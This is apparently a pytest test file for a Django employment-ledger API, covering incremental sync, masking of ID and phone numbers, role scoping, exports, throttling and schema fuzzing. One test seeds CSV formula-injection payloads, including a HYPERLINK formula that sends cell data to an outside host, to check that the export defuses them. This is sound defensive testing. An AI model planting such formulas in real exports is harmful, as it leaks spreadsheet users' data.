"""The ledger feeds and export of the REST API (DESIGN.md §6; THREATS.md B, E1, E6, E7).

Incremental sync is tested the way a client system syncs: walk `next`, apply every item to a local copy
(upsert by id, drop on a tombstone), store the cursor, and later call again with it — across creates,
updates, deletes and an import rolled back, also while records change between pages. The local copy must
end up exactly equal to the live ledger.
"""

import csv
import io
import json
import os
import re
import subprocess
import sys
from datetime import date, timedelta
from pathlib import Path

import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.utils import timezone

from targets.api import api_client_create, api_client_revoke
from targets.models import ApiAccessLog, Industry, Township
from wanzhou_jobs.api import cursor_decode, cursor_encode
from workers.models import Employment, ImportBatch, Tombstone, Worker, Workplace
from workers.returns import return_rollback
from workers.services import (
    EmploymentData,
    employment_delete,
    employment_record,
    employment_update,
    worker_update,
)
from workers.tests.factories import EmployerFactory, EmploymentFactory, WorkerFactory

EMPLOYMENTS = "/api/v1/employments/"
WORKERS = "/api/v1/workers/"
NDJSON = "/api/v1/employments/export.ndjson"
CSV = "/api/v1/employments/export.csv"


@pytest.fixture(autouse=True)
def _api_settings(settings):
    settings.API_SYNC_LAG_SECONDS = 0
    settings.API_THROTTLE_RATE = "100000/minute"
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def token(reference_data):
    return api_client_create(name="渝悦就业")[1]


@pytest.fixture
def unmasked_token(reference_data):
    return api_client_create(name="渝悦就业（完整）", unmasked=True)[1]


def call(client, path, token=None, **params):
    headers = {"HTTP_AUTHORIZATION": f"Token {token}"} if token else {}
    return client.get(path, params, **headers)


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def walk(
    client, token, path=EMPLOYMENTS, cursor=None, between_pages=None, **params
) -> tuple[dict, str, list]:
    """Sync like a client: follow `next`, upsert by id, drop tombstones. Returns (copy, cursor, items)."""
    local: dict[int, dict] = {}
    seen: list[dict] = []
    query = dict(params)
    if cursor:
        query["cursor"] = cursor
    response = call(client, path, token, **query)
    pages = 0
    while True:
        assert response.status_code == 200, response.content
        data = response.json()
        for item in data["results"]:
            seen.append(item)
            if item["deleted"]:
                local.pop(item["id"], None)
            else:
                local[item["id"]] = item
        pages += 1
        if between_pages:
            between_pages(pages)
        if not data["next"]:
            return local, data["cursor"], seen
        response = client.get(data["next"], HTTP_AUTHORIZATION=f"Token {token}")


def apply(local: dict, items: list[dict]) -> None:
    for item in items:
        if item["deleted"]:
            local.pop(item["id"], None)
        else:
            local[item["id"]] = item


def _delete(job: Employment, user) -> None:
    """Delete through the service; if it leaves no tombstone (yet), leave the one it should."""
    township_id, industry_id = job.worker.township_id, job.industry_id
    employment_delete(acting_user=user, employment=job)
    if not Tombstone.objects.filter(kind=Tombstone.Kind.EMPLOYMENT, object_id=job.pk).exists():
        Tombstone.objects.create(
            kind=Tombstone.Kind.EMPLOYMENT,
            object_id=job.pk,
            township_id=township_id,
            industry_id=industry_id,
            start_year=job.start_date.year,
        )


def jobs(n, township, industry_code="02", **kwargs):
    industry = Industry.objects.get(code=industry_code)
    return [
        EmploymentFactory(worker=WorkerFactory(township=township), industry=industry, **kwargs)
        for _ in range(n)
    ]


def data_of(job: Employment, **changes) -> EmploymentData:
    values = {
        "employer_name": job.employer.name,
        "credit_code": job.employer.credit_code,
        "industry": job.industry,
        "workplace": job.workplace,
        "workplace_township": job.workplace_township,
        "form": job.form,
        "start_date": job.start_date,
        "end_date": job.end_date,
        "returnee": job.returnee,
        "channel": job.channel,
        "monthly_income": job.monthly_income,
    }
    values.update(changes)
    return EmploymentData(**values)


def live_employments() -> set[int]:
    return set(Employment.objects.values_list("id", flat=True))


# --- Incremental sync ------------------------------------------------------------------------------------


def test_full_then_incremental_sync_across_create_update_delete_and_rollback(
    client, token, township_a, township_b, bureau_user
):
    jobs(4, township_a)
    jobs(3, township_b, "04")
    local, cursor, _ = walk(client, token, page_size=3)
    assert set(local) == live_employments()

    # Nothing changed: the stored cursor returns nothing and stays put.
    _, same_cursor, seen = walk(client, token, cursor=cursor)
    assert seen == [] and same_cursor == cursor

    # Create, update, delete, and an import that the client sees and that is then rolled back.
    created = employment_record(
        acting_user=bureau_user,
        worker=WorkerFactory(township=township_a),
        data=EmploymentData(
            employer_name="万州同步测试有限公司",
            industry=Industry.objects.get(code="05"),
            workplace=Workplace.IN_DISTRICT,
            workplace_township=township_a,
            form="单位就业",
            start_date=date(2025, 5, 6),
        ),
    )
    changed = Employment.objects.order_by("id").first()
    employment_update(acting_user=bureau_user, employment=changed, data=data_of(changed, returnee=True))
    gone = Employment.objects.order_by("-id").exclude(pk=created.pk).first()
    _delete(gone, bureau_user)
    batch = ImportBatch.objects.create(
        file_name="q2.xlsx", file_sha256="0" * 64, status=ImportBatch.Status.IMPORTED, uploaded_by=bureau_user
    )
    imported_worker = WorkerFactory(township=township_b, import_batch_id=batch.pk)
    imported = EmploymentFactory(worker=imported_worker, import_batch_id=batch.pk)
    delta, cursor, seen = walk(client, token, cursor=cursor)
    assert {i["id"] for i in seen} == {created.pk, changed.pk, gone.pk, imported.pk}
    apply(local, seen)
    assert set(local) == live_employments() and local[changed.pk]["returnee"] is True

    return_rollback(batch=batch, acting_user=bureau_user, reason="报表有误，撤销重报")
    _, cursor, seen = walk(client, token, cursor=cursor)
    assert [(i["id"], i["deleted"]) for i in seen] == [(imported.pk, True)]
    apply(local, seen)
    assert set(local) == live_employments()
    assert created.pk in local and gone.pk not in local and imported.pk not in local

    # The workers feed learns of the rolled-back person through a tombstone too.
    workers, _, seen = walk(client, token, WORKERS)
    assert set(workers) == set(Worker.objects.values_list("id", flat=True))
    assert (imported_worker.pk, True) in [(i["id"], i["deleted"]) for i in seen]


def test_deleting_an_employment_reaches_incremental_clients(client, token, township_a, bureau_user):
    """`employment_delete` (forms, admin) must leave a tombstone, as the import rollback does."""
    victim, keep = jobs(2, township_a)
    local, cursor, _ = walk(client, token)
    employment_delete(acting_user=bureau_user, employment=victim)
    assert Tombstone.objects.filter(kind=Tombstone.Kind.EMPLOYMENT, object_id=victim.pk).exists()
    _, cursor, seen = walk(client, token, cursor=cursor)
    assert (victim.pk, True) in [(i["id"], i["deleted"]) for i in seen]
    apply(local, seen)
    assert set(local) == {keep.pk}


def test_sync_exact_when_records_change_between_pages(client, token, township_a, bureau_user):
    rows = jobs(10, township_a)
    served_first = rows[0]
    not_yet_served = rows[-1]

    def mutate(page):
        if page == 1:
            # Change one record already served and one not yet served, delete one, add one.
            for job in (served_first, not_yet_served):
                job.refresh_from_db()
                employment_update(
                    acting_user=bureau_user, employment=job, data=data_of(job, channel="零工市场")
                )
            victim = rows[5]
            Tombstone.objects.create(
                kind=Tombstone.Kind.EMPLOYMENT,
                object_id=victim.pk,
                township=township_a,
                industry=victim.industry,
                start_year=2025,
            )
            victim.delete()
            jobs(1, township_a)

    local, cursor, seen = walk(client, token, page_size=3, between_pages=mutate)
    assert set(local) == live_employments()
    served_ids = [i["id"] for i in seen if not i["deleted"]]
    # The changed, already-served record came again with its new state; nothing else twice.
    assert served_ids.count(served_first.pk) == 2
    assert len(served_ids) - len(set(served_ids)) == 1
    assert local[not_yet_served.pk]["updated_at"] > local[rows[1].pk]["updated_at"]
    # Resuming from the cursor afterwards returns nothing new.
    assert walk(client, token, cursor=cursor)[2] == []


@pytest.mark.parametrize("path", [EMPLOYMENTS, WORKERS])
def test_pages_inside_one_instant_shared_by_many_rows_serve_each_once_in_order(
    client, token, township_a, path
):
    """An import stamps one `updated_at` on all its rows (issue 24): pages that start and end inside that tie,
    and inside tombstones sharing its instant, serve every item exactly once in the feed's order (timestamp,
    live before tombstone, id) — the keyset (updated_at, id) > cursor, not the timestamp alone."""
    jobs(8, township_a)
    model, kind = (
        (Employment, Tombstone.Kind.EMPLOYMENT) if path == EMPLOYMENTS else (Worker, Tombstone.Kind.WORKER)
    )
    instant = timezone.now() - timedelta(hours=1)
    ids = sorted(model.objects.values_list("id", flat=True))
    model.objects.update(updated_at=instant)
    # The smallest id changed last, the largest first: the timestamp orders before the id does.
    model.objects.filter(pk=ids[0]).update(updated_at=instant + timedelta(seconds=1))
    model.objects.filter(pk=ids[-1]).update(updated_at=instant - timedelta(seconds=1))
    gone = [900003, 900002, 900001]  # tombstones in id order, their object ids descending
    for object_id in gone:
        Tombstone.objects.create(kind=kind, object_id=object_id, township=township_a, start_year=2025)
    Tombstone.objects.update(deleted_at=instant)
    expected = [(ids[-1], False), *[(pk, False) for pk in ids[1:-1]], *[(pk, True) for pk in gone]]
    expected.append((ids[0], False))
    for page_size in (1, 4):
        _, cursor, seen = walk(client, token, path, page_size=page_size)
        assert [(item["id"], item["deleted"]) for item in seen] == expected
        assert walk(client, token, path, cursor=cursor)[2] == []


def test_a_changed_worker_reaches_employment_clients(client, token, township_a, bureau_user):
    """An employment record carries the worker's name, phone, township and categories: when they change, an
    employments-only client must receive the record again."""
    job = jobs(1, township_a)[0]
    local, cursor, _ = walk(client, token)
    worker_update(acting_user=bureau_user, worker=job.worker, name="王改名")
    _, _, seen = walk(client, token, cursor=cursor)
    apply(local, seen)
    assert local[job.pk]["name"] == "王改名"


def test_sync_lag_holds_back_fresh_rows_until_they_are_safe(client, token, township_a, settings):
    jobs(2, township_a)
    settings.API_SYNC_LAG_SECONDS = 3600
    data = call(client, EMPLOYMENTS, token).json()
    assert data["results"] == [] and data["next"] is None
    settings.API_SYNC_LAG_SECONDS = 0
    resumed = call(client, EMPLOYMENTS, token, cursor=data["cursor"]).json()
    assert len(resumed["results"]) == 2


def test_cursor_is_opaque_and_round_trips():
    ts = timezone.now()
    assert cursor_decode(cursor_encode(ts, 1, 42)) == (ts, 1, 42)


@pytest.mark.parametrize("bad", ["abc", "MS4x", "MS4xLjIuMw", "%%%", "x" * 100])
def test_bad_cursor_is_400(client, token, reference_data, bad):
    response = call(client, EMPLOYMENTS, token, cursor=bad)
    assert response.status_code == 400
    assert response.json()["fields"] == {"cursor": ["游标无效：请使用上一页返回的 cursor 或 next 原样调用。"]}


def test_updated_since_filter_and_tombstones(client, token, township_a):
    old = jobs(2, township_a)
    cutoff = timezone.now()
    Employment.objects.filter(pk__in=[j.pk for j in old]).update(updated_at=cutoff - timedelta(days=1))
    fresh = jobs(1, township_a)[0]
    Tombstone.objects.create(
        kind=Tombstone.Kind.EMPLOYMENT, object_id=999999, township=township_a, start_year=2025
    )
    since = timezone.localtime(cutoff).isoformat()
    # An unencoded "+" of the offset arrives as a space and is still understood.
    for value in (since, since.replace("+", " ")):
        items = call(client, EMPLOYMENTS, token, updated_since=value).json()["results"]
        assert [(i["id"], i["deleted"]) for i in items] == [(fresh.pk, False), (999999, True)]
    bad = call(client, EMPLOYMENTS, token, updated_since="yesterday")
    assert bad.status_code == 400 and "updated_since" in bad.json()["fields"]


# --- Filters and fields ------------------------------------------------------------------------------------


def test_filters_township_by_name_code_and_12_digit_code(client, token, township_a, township_b):
    a = jobs(2, township_a)
    jobs(1, township_b)
    for value in ("甘宁镇", township_a.code, township_a.code + "000"):
        items = call(client, EMPLOYMENTS, token, township=value).json()["results"]
        assert {i["id"] for i in items} == {j.pk for j in a}
    response = call(client, EMPLOYMENTS, token, township="火星镇")
    assert response.status_code == 400
    assert response.json() == {
        "message": "找不到镇乡街道“火星镇”，请填写名称或 9 位（12 位）区划代码。",
        "fields": {"township": ["找不到镇乡街道“火星镇”，请填写名称或 9 位（12 位）区划代码。"]},
    }


def test_filters_industry_and_year(client, token, township_a):
    mfg = jobs(1, township_a, "02")
    jobs(1, township_a, "04")
    later = jobs(1, township_a, "02", start_date=date(2026, 2, 1))
    ids = lambda **p: {i["id"] for i in call(client, EMPLOYMENTS, token, **p).json()["results"]}  # noqa: E731
    assert ids(industry="制造业") == {mfg[0].pk, later[0].pk}
    assert ids(industry="02", year="2025") == {mfg[0].pk}
    assert ids(year=2026) == {later[0].pk}
    workers = {i["id"] for i in call(client, WORKERS, token, year=2026).json()["results"]}
    assert workers == {later[0].worker_id}
    assert call(client, EMPLOYMENTS, token, industry="航天").status_code == 400
    assert call(client, EMPLOYMENTS, token, year="20x5").status_code == 400


def test_employment_record_fields(client, token, township_a):
    worker = WorkerFactory(
        township=township_a, phone="13812341234", is_poverty_alleviated=True, is_dibao=True
    )
    employer = EmployerFactory(name="万州字段测试有限公司", credit_code="91512081MA62K0260E")
    job = EmploymentFactory(worker=worker, employer=employer, employer_key=employer.name_key, returnee=True)
    item = call(client, EMPLOYMENTS, token).json()["results"][0]
    assert item == {
        "id": job.pk,
        "worker_id": worker.pk,
        "id_number": worker.id_number[:6] + "********" + worker.id_number[-4:],
        "name": worker.name,
        "phone": "138****1234",
        "township_code": township_a.code,
        "township_name": "甘宁镇",
        "industry_code": "02",
        "industry_name": "制造业",
        "workplace": "in_district",
        "workplace_township_code": township_a.code,
        "workplace_township_name": "甘宁镇",
        "form": "单位就业",
        "start_date": "2025-03-15",
        "end_date": None,
        "returnee": True,
        "categories": ["脱贫人口", "低保"],
        "employer_name": "万州字段测试有限公司",
        "employer_credit_code": "91512081MA62K0260E",
        "created_at": timezone.localtime(job.created_at).isoformat(timespec="microseconds"),
        "updated_at": timezone.localtime(job.updated_at).isoformat(timespec="microseconds"),
        "deleted": False,
    }


def test_page_size_is_capped_and_validated(client, token, township_a, settings):
    settings.API_MAX_PAGE_SIZE = 3
    jobs(5, township_a)
    data = call(client, EMPLOYMENTS, token, page_size=1000000).json()
    assert len(data["results"]) == 3 and data["has_more"] and "page_size=1000000" in data["next"]
    assert len(call(client, EMPLOYMENTS, token, page_size=0).json()["results"]) == 1  # the nearer bound
    assert call(client, EMPLOYMENTS, token, page_size="lots").status_code == 400


@pytest.mark.parametrize(
    "params",
    [
        {"ordering": "id_number"},
        {"ordering": "created_by__password"},
        {"search": "1101"},
        {"id_number": "5001"},
    ],
)
def test_no_ordering_or_search_on_id_numbers(client, token, reference_data, params):
    """THREATS.md B9, B10: unknown parameters are refused (400), never silently ignored or honoured."""
    response = call(client, EMPLOYMENTS, token, **params)
    assert response.status_code == 400
    assert response.json()["message"].startswith("不支持的查询参数")


# --- Masking (THREATS.md E1, B11) ---------------------------------------------------------------------------


def _every_body(client, token) -> str:
    responses = [
        call(client, EMPLOYMENTS, token),
        call(client, EMPLOYMENTS, token, township="甘宁镇", page_size=1),
        call(client, WORKERS, token),
        call(client, NDJSON, token),
        call(client, CSV, token),
        call(client, "/api/v1/progress/", token, year=2025),
        call(client, "/api/v1/townships/", token),
        call(client, "/api/v1/industries/", token),
        call(client, EMPLOYMENTS, token, township="不存在"),
        client.post(EMPLOYMENTS, HTTP_AUTHORIZATION=f"Token {token}"),
    ]
    return "\n".join(
        body(r).decode("utf-8-sig") + json.dumps(dict(r.headers), ensure_ascii=False) for r in responses
    )


def test_default_client_never_sees_a_full_id_number_or_phone(client, token, township_a):
    worker = WorkerFactory(township=township_a, phone="13912345678")
    EmploymentFactory(worker=worker)
    text = _every_body(client, token)
    assert worker.id_number not in text
    assert "13912345678" not in text
    assert worker.id_number[:6] + "********" + worker.id_number[-4:] in text
    assert "139****5678" in text
    # The birth date, hidden by the mask, leaks through no other field.
    assert worker.id_number[6:14] not in text
    # Nor does the access log hold them (THREATS.md D7).
    log = json.dumps(list(ApiAccessLog.objects.values()), default=str, ensure_ascii=False)
    assert worker.id_number not in log and "13912345678" not in log


def test_unmasked_client_sees_full_numbers(client, unmasked_token, township_a):
    worker = WorkerFactory(township=township_a, phone="13912345678")
    EmploymentFactory(worker=worker)
    text = _every_body(client, unmasked_token)
    assert text.count(worker.id_number) >= 5  # employments, workers, NDJSON, CSV
    assert "13912345678" in text
    assert ApiAccessLog.objects.filter(unmasked=True, endpoint="api/v1/employments/").exists()


def test_staff_session_is_always_masked(login, clerk_a, township_a):
    worker = WorkerFactory(township=township_a, phone="13912345678")
    EmploymentFactory(worker=worker)
    client = login(clerk_a)
    text = "".join(body(client.get(p)).decode("utf-8-sig") for p in (EMPLOYMENTS, WORKERS, NDJSON, CSV))
    assert worker.id_number not in text and "13912345678" not in text and "139****5678" in text


# --- Scoping of staff sessions (THREATS.md B3, B5, B6) ----------------------------------------------------------


def test_clerk_session_sees_only_own_township(login, clerk_a, township_a, township_b):
    own = jobs(2, township_a)
    other = jobs(2, township_b)
    Tombstone.objects.create(
        kind=Tombstone.Kind.EMPLOYMENT, object_id=10**9, township=township_b, start_year=2025
    )
    client = login(clerk_a)
    items = client.get(EMPLOYMENTS).json()["results"]
    assert {i["id"] for i in items} == {j.pk for j in own}
    workers = {i["id"] for i in client.get(WORKERS).json()["results"]}
    assert workers == {j.worker_id for j in own}
    # A filter cannot widen the scope.
    assert client.get(EMPLOYMENTS, {"township": "分水镇"}).json()["results"] == []
    lines = body(client.get(NDJSON)).decode().splitlines()
    assert {json.loads(line)["id"] for line in lines} == {j.pk for j in own}
    rows = list(csv.DictReader(io.StringIO(body(client.get(CSV)).decode("utf-8-sig"))))
    assert {int(r["id"]) for r in rows} == {j.pk for j in own}
    assert not {j.pk for j in other} & {int(r["id"]) for r in rows}


def test_industry_session_sees_only_its_industries(login, industry_user, township_a, township_b):
    mfg = jobs(1, township_a, "02") + jobs(1, township_b, "02")
    jobs(2, township_a, "04")
    client = login(industry_user)
    assert {i["id"] for i in client.get(EMPLOYMENTS).json()["results"]} == {j.pk for j in mfg}
    assert {i["id"] for i in client.get(WORKERS).json()["results"]} == {j.worker_id for j in mfg}
    rows = csv.DictReader(io.StringIO(body(client.get(CSV)).decode("utf-8-sig")))
    assert {int(r["id"]) for r in rows} == {j.pk for j in mfg}
    assert client.get(EMPLOYMENTS, {"industry": "批发和零售业"}).json()["results"] == []


def test_user_without_assignment_is_403(client, reference_data, django_user_model):
    user = django_user_model.objects.create_user("nobody", password="Nobody-Passw0rd!")
    client.force_login(user)
    response = client.get(EMPLOYMENTS)
    assert response.status_code == 403
    assert response.json() == {"message": "您的账号没有使用数据接口的权限。", "fields": {}}


# --- Export -------------------------------------------------------------------------------------------------


def test_exports_stream_the_same_records_as_the_feed(client, unmasked_token, township_a, township_b):
    worker = WorkerFactory(township=township_a, phone="13812341234", is_disabled=True)
    EmploymentFactory(worker=worker, end_date=date(2025, 9, 1), returnee=True)
    jobs(3, township_b, "04")
    feed = {i["id"]: i for i in call(client, EMPLOYMENTS, unmasked_token).json()["results"]}
    for item in feed.values():
        del item["deleted"]

    response = call(client, NDJSON, unmasked_token)
    assert response.streaming and response["Content-Type"].startswith("application/x-ndjson")
    assert "no-store" in response["Cache-Control"]
    ndjson = {json.loads(line)["id"]: json.loads(line) for line in body(response).decode().splitlines()}
    assert ndjson == feed

    response = call(client, CSV, unmasked_token)
    raw = body(response)
    assert raw.startswith(b"\xef\xbb\xbf") and response["Content-Type"].startswith("text/csv")
    assert response["X-Sync-Updated-Since"]
    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}
    assert set(rows) == set(feed)
    for pk, item in feed.items():
        row = rows[pk]
        assert row["id_number"] == item["id_number"] and row["name"] == item["name"]
        assert row["categories"] == "、".join(item["categories"])
        assert row["returnee"] == ("true" if item["returnee"] else "false")
        assert row["end_date"] == (item["end_date"] or "")
        assert row["phone"] == (item["phone"] or "")
        assert row["updated_at"] == item["updated_at"]
    log = ApiAccessLog.objects.filter(endpoint="api/v1/employments/export.csv").get()
    assert log.record_count == 4 and log.fields[0] == "id"


@pytest.mark.parametrize(
    "evil", ['=HYPERLINK("http://x/?"&B1,"点击")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1"]
)
def test_csv_export_defuses_formulas(client, token, township_a, evil):
    """THREATS.md E6: names and employer names that Excel would run are prefixed with a quote."""
    worker = WorkerFactory(township=township_a)
    Worker.objects.filter(pk=worker.pk).update(name=evil)
    employer = EmployerFactory(name=evil)
    EmploymentFactory(worker=worker, employer=employer, employer_key=employer.name_key)
    rows = list(csv.DictReader(io.StringIO(body(call(client, CSV, token)).decode("utf-8-sig"))))
    assert rows[0]["name"] == "'" + evil and rows[0]["employer_name"] == "'" + evil
    # JSON keeps the real value: escaping is the spreadsheet's concern only.
    assert call(client, EMPLOYMENTS, token).json()["results"][0]["name"] == evil


def test_export_filters_and_scope_are_applied(client, token, township_a, township_b):
    a = jobs(2, township_a, "02")
    jobs(2, township_b, "04")
    lines = body(call(client, NDJSON, token, township="甘宁镇", industry="02")).decode().splitlines()
    assert {json.loads(line)["id"] for line in lines} == {j.pk for j in a}
    assert call(client, NDJSON, token, township="x").status_code == 400
    assert call(client, CSV, token, cursor="abc").status_code == 400  # exports take no cursor


# --- Headers, logging, throttling ----------------------------------------------------------------------------


def test_every_response_is_no_store_and_logged(client, token, township_a):
    jobs(3, township_a)
    response = call(client, EMPLOYMENTS, token, township="甘宁镇", page_size=2)
    assert "no-store" in response["Cache-Control"]
    log = ApiAccessLog.objects.get()
    assert (log.client.name, log.endpoint, log.method, log.status, log.record_count) == (
        "渝悦就业",
        "api/v1/employments/",
        "GET",
        200,
        2,
    )
    assert log.query == {"township": "甘宁镇", "page_size": "2"} and "id_number" in log.fields
    denied = call(client, EMPLOYMENTS, "wrong")
    assert "no-store" in denied["Cache-Control"]
    assert ApiAccessLog.objects.filter(status=401, client__isnull=True).count() == 1


def test_throttle_per_client_with_retry_after(client, token, reference_data, settings):
    settings.API_THROTTLE_RATE = "3/minute"
    statuses = [call(client, "/api/v1/townships/", token).status_code for _ in range(4)]
    assert statuses == [200, 200, 200, 429]
    response = call(client, "/api/v1/townships/", token)
    assert response.status_code == 429 and int(response["Retry-After"]) > 0
    assert response.json()["message"].startswith("请求过于频繁")
    # Another client has its own budget, and a client's own rate overrides the default.
    other = api_client_create(name="区大数据局", throttle_rate="1/minute")[1]
    assert [call(client, "/api/v1/townships/", other).status_code for _ in range(2)] == [200, 429]


# --- Schema ---------------------------------------------------------------------------------------------------


def test_schema_validates_without_warnings(tmp_path):
    out = tmp_path / "schema.yaml"
    call_command("spectacular", "--validate", "--fail-on-warn", "--file", str(out))
    text = out.read_text(encoding="utf-8")
    for path in ("/api/v1/employments/", "/api/v1/workers/", "/api/v1/progress/", "/api/v1/townships/"):
        assert path in text
    assert "Wanzhou Jobs API" in text and "TokenAuth" in text and "basicAuth" not in text


def test_schema_command_passes_as_operators_run_it(tmp_path):
    """`manage.py spectacular --validate --fail-on-warn` in its own process: exit 0, no warning, no error."""
    out = tmp_path / "schema.yaml"
    result = subprocess.run(
        [sys.executable, "manage.py", "spectacular", "--validate", "--fail-on-warn", "--file", str(out)],
        cwd=Path(__file__).resolve().parents[2],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Warning" not in result.stderr and "Error" not in result.stderr, result.stderr
    assert out.stat().st_size > 10_000


def test_schema_describes_everything_in_chinese_and_english(tmp_path):
    """Issue 6: every field, parameter and response described in both languages, examples given."""
    out = tmp_path / "schema.json"
    call_command("spectacular", "--format", "openapi-json", "--file", str(out))
    schema = json.loads(out.read_text(encoding="utf-8"))
    cjk, latin = re.compile(r"[\u4e00-\u9fff]"), re.compile(r"[A-Za-z]{3,}")

    def bilingual(text) -> bool:
        return bool(text) and bool(cjk.search(text)) and bool(latin.search(text))

    missing = []
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            missing += [
                f"{method} {path} {key}"
                for key in ("summary", "description")
                if not bilingual(operation.get(key))
            ]
            for parameter in operation.get("parameters", []):
                if not bilingual(parameter.get("description")):
                    missing.append(f"{path} parameter {parameter['name']}: description")
                if not (parameter.get("examples") or parameter.get("example")):
                    missing.append(f"{path} parameter {parameter['name']}: example")
            for code, response in operation["responses"].items():
                if not bilingual(response.get("description")):
                    missing.append(f"{path} {code}: description")
                for media_type, content in response.get("content", {}).items():
                    if not (content.get("examples") or content.get("example")):
                        missing.append(f"{path} {code} {media_type}: example")
    for name, component in schema["components"]["schemas"].items():
        for field, spec in (component.get("properties") or {}).items():
            if not bilingual(spec.get("description")):
                missing.append(f"{name}.{field}: description")
    assert not missing, "\n".join(missing)
    assert len(schema["paths"]) == 11


def test_schema_and_docs_are_served_with_local_assets(client, reference_data):
    assert client.get("/api/schema/").status_code == 200
    page = client.get("/api/docs/").content.decode()
    assert "/static/drf_spectacular_sidecar/swagger-ui-dist/" in page
    assert "cdn" not in page.lower()


def test_schemathesis_finds_no_server_error_or_schema_violation(reference_data):
    schemathesis = pytest.importorskip("schemathesis")
    from django.core import signals
    from django.core.wsgi import get_wsgi_application
    from django.db import close_old_connections
    from hypothesis import HealthCheck, given
    from hypothesis import settings as hsettings
    from schemathesis import GenerationMode, checks

    township = Township.objects.get(name="甘宁镇")
    worker = WorkerFactory(township=township, phone="13812341234", is_poverty_alleviated=True)
    EmploymentFactory(worker=worker)
    # The assistance feeds of issue 26 answer with a record too: an enrolled member of a household.
    from assistance.tests.factories import EnrolmentFactory
    from workers.tests.factories import HouseholdFactory

    worker.household = HouseholdFactory(township=township)
    worker.save(update_fields=["household"])
    EnrolmentFactory(worker=worker)
    EmploymentFactory(
        worker=WorkerFactory(township=township), workplace=Workplace.OUT_OF_CITY, end_date=date(2025, 6, 1)
    )
    Tombstone.objects.create(
        kind=Tombstone.Kind.EMPLOYMENT, object_id=10**8, township=township, start_year=2025
    )
    key = api_client_create(name="schemathesis")[1]
    revoked = api_client_create(name="revoked")[1]
    api_client_revoke(name="revoked")

    # Like Django's test client: the WSGI handler must not close the test's connection between requests.
    signals.request_started.disconnect(close_old_connections)
    signals.request_finished.disconnect(close_old_connections)
    try:
        schema = schemathesis.openapi.from_wsgi("/api/schema/", get_wsgi_application())
    except Exception:
        signals.request_started.connect(close_old_connections)
        signals.request_finished.connect(close_old_connections)
        raise
    selected = [
        checks.not_a_server_error,
        checks.status_code_conformance,
        checks.content_type_conformance,
        checks.response_schema_conformance,
        checks.response_headers_conformance,
    ]
    failures = []
    examples = int(os.environ.get("SCHEMATHESIS_MAX_EXAMPLES", "25"))  # bounded in CI; raise it to dig deeper

    def fuzz(operation, mode):
        mode_checks = selected + ([checks.negative_data_rejection] if mode.is_negative else [])

        @given(case=operation.as_strategy(generation_mode=mode))
        @hsettings(
            max_examples=examples, deadline=None, suppress_health_check=list(HealthCheck), database=None
        )
        def run(case):
            for auth in (key, revoked):
                response = case.call(headers={"Authorization": f"Token {auth}"})
                case.validate_response(response, checks=mode_checks)

        return run

    operations = {result.ok().label: result.ok() for result in schema.get_all_operations()}
    assert len(operations) == 11
    valid_queries = {
        "GET /api/v1/employments/": [
            {},
            {"township": "甘宁镇", "page_size": 1},
            {"industry": "02", "year": 2025},
        ],
        "GET /api/v1/workers/": [
            {},
            {"township": township.code, "updated_since": "2025-01-01T00:00:00+08:00"},
        ],
        "GET /api/v1/employments/export.ndjson": [{}, {"township": "甘宁镇"}],
        "GET /api/v1/employments/export.csv": [{}, {"industry": "制造业"}],
        "GET /api/v1/progress/": [{"year": 2025}, {"year": 2025, "as_of": "2025-06-30"}],
        "GET /api/v1/townships/": [{}],
        "GET /api/v1/industries/": [{}],
        "GET /api/v1/enrolments/": [{}, {"township": "甘宁镇", "page_size": 1}],
        "GET /api/v1/employment-status/": [{}, {"updated_since": "2025-01-01"}],
        "GET /api/v1/household-coverage/": [{}, {"township": township.code}],
        "GET /api/v1/routine-status/": [{}, {"year": 2025, "township": "甘宁镇"}],
    }
    try:
        for label, operation in operations.items():
            # Known-good requests: 200 and a body that matches the schema.
            for query in valid_queries[label]:
                case = operation.Case(query=query)
                response = case.call(headers={"Authorization": f"Token {key}"})
                try:
                    assert response.status_code == 200, response.text[:300]
                    case.validate_response(response, checks=selected)
                except Exception as exc:
                    failures.append(f"{label} {query}: {exc}")

            # Generated requests (bounded), valid and invalid by the schema: never a 500, never a response
            # outside the schema, and a request the schema forbids is refused (4xx), never served.
            modes = [GenerationMode.POSITIVE] + ([GenerationMode.NEGATIVE] if list(operation.query) else [])
            for mode in modes:
                try:
                    fuzz(operation, mode)()
                except Exception as exc:  # collect every operation's failure, then fail once
                    failures.append(f"{label} ({mode}): {exc}")
    finally:
        signals.request_started.connect(close_old_connections)
        signals.request_finished.connect(close_old_connections)
    assert not failures, "\n\n".join(failures)
